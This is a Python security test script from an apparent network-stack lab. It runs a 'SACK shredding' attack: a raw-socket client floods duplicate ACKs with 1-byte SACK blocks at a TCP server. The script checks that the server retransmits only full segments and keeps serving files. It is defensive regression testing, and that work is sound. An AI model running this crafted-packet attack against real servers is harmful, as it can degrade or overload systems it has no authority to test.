#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""SACK shredding (issue 14 finding 3): a client that requests a file and then answers the first
flight only with duplicate ACKs carrying 1-byte SACK blocks inside it. A sender that splits its
scoreboard at every SACK edge retransmits slivers (and, offloaded, turns each into a NIC job);
Linux marks only whole segments (tcp_match_skb_to_sack) and retransmits full segments.

Checks: every data segment the server sends (first transmissions and retransmissions) is a full
segment, except ones that repeat a short original segment exactly or end at the highest byte
sent (a genuinely short tail); the server keeps working (a normal fetch afterwards is
byte-exact). --mode linux runs the same client against the lab's Linux server for reference."""
import sys
import time

import attacklib as al

FILE = "f1m.bin"
SPORT = 42000


def shred(name, rounds):
    """In the client namespace: request name, then send `rounds` duplicate ACKs with three
    1-byte SACK blocks each, spread over the first flight. Returns every data segment seen."""
    al.block_kernel_rst(SPORT, SPORT)
    raw = al.RawSocket(al.client_iface())
    c = al.RawTcp(raw, SPORT, win=65535, wscale=7)
    synack = c.connect()
    mss = min(synack[8].get("mss", 536), c.mss) - (12 if "ts" in synack[8] else 0)
    c.send_data(b"GET /%s HTTP/1.0\r\n\r\n" % name.encode())
    base = start = c.rcv_nxt  # first byte of the response
    segs, t0 = [], time.monotonic()

    def take(timeout):
        seg = c.recv(timeout)
        if seg and seg[9]:
            segs.append(((seg[4] - start) & 0xFFFFFFFF, len(seg[9]), round(time.monotonic() - t0, 4)))
        return seg

    while take(0.05):  # the first flight, until the server waits for ACKs
        pass
    flight = max((o + n for o, n, _ in segs), default=0)
    first = len(segs)
    if flight < 3000:
        return {"error": "first flight too short: %d bytes" % flight, "segs": segs}
    # acknowledge the first segment, then 1-byte SACK blocks at offsets that are never segment
    # boundaries, the ACK staying there
    base = (base + segs[0][1]) & 0xFFFFFFFF
    k = 0
    for r in range(rounds):
        blocks = []
        for _ in range(3):
            off = 2000 + (k * 977) % (flight - 3000)
            k += 1
            blocks += [(base + off) & 0xFFFFFFFF, (base + off + 1) & 0xFFFFFFFF]
        c.send(al.ACK, ack=base, options=[("NOP", None), ("NOP", None), ("SAck", tuple(blocks))])
        while take(0.02):
            pass
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        take(0.1)
    c.send(al.RST | al.ACK, ack=base)
    return {"segs": segs, "first": first, "flight": flight, "mss": mss}


def classify(res):
    segs, mss = res["segs"], res["mss"]
    originals = {}
    high = 0
    bad, retx, small_retx = [], 0, 0
    for i, (off, n, t) in enumerate(segs):
        is_retx = off < high
        if not is_retx:
            originals[off] = n
        else:
            retx += 1
        # (a receiver's GRO may join full segments into one frame: longer is fine)
        ok = n >= mss or originals.get(off) == n or off + n >= high
        if n < mss and is_retx:
            small_retx += 1
        if not ok:
            bad.append((off, n))
        high = max(high, off + n)
    return mss, retx, small_retx, bad


def attack(lab, args):
    before = lab.figures()
    res = lab.ns_call(shred, FILE, args.rounds, timeout=120)
    if "error" in res:
        al.report("first flight received", False, res)
        return
    mss, retx, small_retx, bad = classify(res)
    after = lab.figures()
    sizes = sorted({n for _, n, _ in res["segs"]})
    al.note("first flight %d bytes in %d segments (MSS %d); then %d segments, %d retransmissions, "
            "%d of them short; segment sizes seen: %s" %
            (res["flight"], res["first"], mss, len(res["segs"]) - res["first"], retx, small_retx,
             sizes[:12]))
    if args.mode != "linux":
        sb, sa = before["stats"]["host"], after["stats"]["host"]
        al.note("host: retransmitted segments %d, offload retransmit SENDs %d" % (
            sa.get("tcp_retrans_segs", 0) - sb.get("tcp_retrans_segs", 0),
            sa.get("host_offload_retransmit_sends", 0) - sb.get("host_offload_retransmit_sends", 0)))
    al.report("only full segments (or a short original repeated exactly, or the tail): %d "
              "slivers" % len(bad), not bad, "first slivers (offset, len): %s" % bad[:10])
    ok, detail = lab.fetch(FILE)
    al.report("a normal fetch afterwards: " + detail, ok)
    al.print_figures("sack-shred (%s)" % args.mode, [
        ("before", before),
        ("after %d dup ACKs" % args.rounds, dict(after, transfers="1/1" if ok else "0/1",
                                                   note="%d short retransmissions" % small_retx))])


def add_args(ap):
    ap.add_argument("--rounds", type=int, default=60, help="duplicate ACKs with 1-byte SACK blocks")


if __name__ == "__main__":
    sys.exit(al.main(attack, "SACK shredding: 1-byte SACK blocks in the first flight",
                     files={FILE: 1 << 20}, add_args=add_args, modes=("offload", "copy", "linux")))
